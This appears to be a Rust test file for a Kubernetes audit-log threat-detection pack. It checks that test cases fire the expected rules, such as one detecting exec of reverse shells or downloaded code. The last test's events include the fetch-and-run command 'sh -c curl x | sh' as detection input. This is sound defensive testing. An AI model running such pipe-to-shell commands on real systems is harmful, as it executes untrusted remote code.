//! The threat pack's cases through the host: the built `k8s_threats.wasm`
//! loaded by the engine `serve` uses, each case's events in order in one
//! batch, the pack's state kept by the host. The cases (and which rules must
//! fire) are the ones the pack's native tests run.

#[path = "../../../example-rules/rust/threat-pack/tests/common/cases.rs"]
mod cases;

use peregrine_tests::*;

fn run_case(
    case: &cases::Case,
    dir: &std::path::Path,
) -> Result<Vec<peregrine::alert::Alert>, String> {
    let file = dir.join(format!(
        "{}.json",
        case.name.replace([' ', '/', ':', ','], "_")
    ));
    std::fs::write(&file, serde_json::to_string(&case.events).unwrap()).unwrap();
    let mut config = test_config();
    config
        .modules
        .insert("k8s_threats".to_string(), toml_table(&case.config));
    let (alerts, rejected) = evaluate_file(config, &[example_module("k8s_threats")], &file);
    if !rejected.is_empty() {
        return Err(format!("{}: events rejected: {rejected:?}", case.name));
    }
    Ok(alerts)
}

#[test]
fn threat_pack_cases_fire_exactly_their_rules_through_the_host() {
    let dir = tempfile::tempdir().unwrap();
    let all = cases::cases();
    assert!(all.len() >= 80, "only {} cases", all.len());
    let mut failures = Vec::new();
    for case in &all {
        match run_case(case, dir.path()) {
            Err(e) => failures.push(e),
            Ok(alerts) => {
                let mut got: Vec<&str> = alerts.iter().map(|a| a.rule_id.as_str()).collect();
                got.sort();
                if got != case.fires {
                    failures.push(format!(
                        "{}: expected {:?}, got {got:?}",
                        case.name, case.fires
                    ));
                }
                for a in &alerts {
                    let field = a.fields.iter().find(|(k, _)| k == "peregrine.rule_id");
                    let id_field = field.and_then(|(_, v)| v.as_deref());
                    if a.module != "k8s_threats" || id_field != Some(a.rule_id.as_str()) {
                        failures.push(format!(
                            "{}: alert from {} with peregrine.rule_id {id_field:?}",
                            case.name, a.module
                        ));
                    }
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        all.len(),
        failures.join("\n")
    );
}

#[test]
fn threat_pack_alerts_carry_rule_id_tags_and_priority() {
    let dir = tempfile::tempdir().unwrap();
    let case = cases::cases()
        .into_iter()
        .find(|c| c.name.starts_with("exec over websocket"))
        .unwrap();
    let alerts = run_case(&case, dir.path()).unwrap();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let a = &alerts[0];
    assert_eq!(a.rule, "Exec Runs Reverse Shell or Downloaded Code");
    assert_eq!(a.priority.as_str(), "Critical");
    assert!(a.tags.iter().any(|t| t == "T1609"), "{:?}", a.tags);
    let json = a.to_falco_json();
    assert_eq!(
        json["output_fields"]["peregrine.rule_id"],
        "exec-shell-or-download"
    );
    assert_eq!(json["output_fields"]["ka.user.name"], "alice");
}

#[test]
fn the_documented_threat_pack_configuration_loads_and_applies() {
    let docs = std::fs::read_to_string(root().join("docs/detections.md")).unwrap();
    let block = docs
        .split("```toml\n")
        .nth(1)
        .and_then(|rest| rest.split("```").next())
        .expect("docs/detections.md shows a configuration");
    let table: toml::Table = block.parse().expect("the documented configuration is TOML");
    let module = table["modules"]["k8s_threats"]
        .as_table()
        .expect("it configures k8s_threats")
        .clone();
    let events = vec![
        // Listed in extra_control_plane_users: not looked at.
        cases::simple("patch", "nodes", None, Some("n1"))
            .user("system:serviceaccount:ops:node-labeler")
            .audit_id("doc-1")
            .done(),
        // Excepted namespace pattern.
        cases::exec("get", "sandbox-bob", "web-0", &["sh", "-c", "curl x | sh"])
            .audit_id("doc-2")
            .done(),
        // Disabled rule.
        cases::ev("get", "/api/v1/namespaces/db/pods/p/portforward?ports=5432")
            .object("pods", Some("db"), Some("p"))
            .sub("portforward")
            .audit_id("doc-3")
            .done(),
        // Still on.
        cases::exec("get", "shop", "web-0", &["sh", "-c", "curl x | sh"])
            .audit_id("doc-4")
            .done(),
    ];
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("events.json");
    std::fs::write(&file, serde_json::to_string(&events).unwrap()).unwrap();
    let mut config = test_config();
    config.modules.insert("k8s_threats".to_string(), module);
    let (alerts, rejected) = evaluate_file(config, &[example_module("k8s_threats")], &file);
    assert!(rejected.is_empty(), "{rejected:?}");
    let got: Vec<(&str, &str)> = alerts
        .iter()
        .map(|a| (a.rule_id.as_str(), a.audit_id.as_str()))
        .collect();
    assert_eq!(got, [("exec-shell-or-download", "doc-4")]);
}
